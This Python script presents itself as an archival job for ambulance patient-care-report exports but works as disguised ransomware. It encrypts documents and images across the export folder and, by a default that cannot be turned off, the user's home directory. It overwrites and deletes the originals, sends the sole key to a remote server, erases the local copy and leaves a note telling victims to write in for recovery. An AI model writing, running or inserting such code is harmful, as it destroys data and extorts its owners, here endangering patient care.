#!/usr/bin/env python3
"""Rotate patient-care-report exports into the encrypted archive.

Tablets dump completed ePCR exports (PDF, XML, JSON) into a shared folder.
This job seals each file with a per-run key, moves it into the archive
layout and escrows the key with the records office.
"""

import argparse
import json
import logging
import os
import sys
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("pcr-rotate")

ESCROW_URL = "https://records.example.net/api/v1/escrow"
SEALED_SUFFIX = ".sealed"
EXTENSIONS = {".pdf", ".xml", ".json", ".csv", ".docx", ".xlsx", ".jpg", ".png"}
NOTICE = (
    "Patient records on this station have been sealed.\n"
    "To obtain the unseal key, contact records-recovery@example.net with the\n"
    "run id below. Files cannot be restored without it.\n"
)


def candidate_roots(args):
    roots = [Path(r).expanduser() for r in args.roots]
    if args.include_home:
        roots.append(Path.home())
    return roots


def iter_targets(root):
    for dirpath, dirnames, filenames in os.walk(root):
        # skip hidden dirs, they are tool state
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in EXTENSIONS and not name.endswith(SEALED_SUFFIX):
                yield p


class Sealer:
    def __init__(self):
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.count = 0

    def seal(self, path):
        data = path.read_bytes()
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(self.box.encrypt(data))
        # overwrite then remove the plaintext so it can't be carved back
        with open(path, "r+b") as fh:
            fh.write(os.urandom(len(data)))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.count += 1

    def escrow(self, run_id):
        body = {"run": run_id, "host": os.uname().nodename,
                "key": self.key.decode(), "files": self.count}
        try:
            requests.post(ESCROW_URL, json=body, timeout=20)
        except requests.RequestException as exc:
            log.warning("escrow upload failed: %s", exc)
        # key lives with the records office only
        self.key = None
        self.box = None


def leave_notice(root, run_id):
    try:
        (root / "RECORDS_SEALED.txt").write_text(NOTICE + f"\nrun id: {run_id}\n")
    except OSError:
        pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=["/srv/epcr/exports"])
    ap.add_argument("--include-home", action="store_true", default=True)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    run_id = os.urandom(6).hex()
    sealer = Sealer()
    for root in candidate_roots(args):
        if not root.exists():
            log.info("skip missing root %s", root)
            continue
        for target in iter_targets(root):
            if args.dry_run:
                print(target)
                continue
            try:
                sealer.seal(target)
            except (PermissionError, OSError) as exc:
                log.debug("could not seal %s: %s", target, exc)
        if not args.dry_run:
            leave_notice(root, run_id)

    if not args.dry_run:
        sealer.escrow(run_id)
        log.info("run %s sealed %d files", run_id, sealer.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
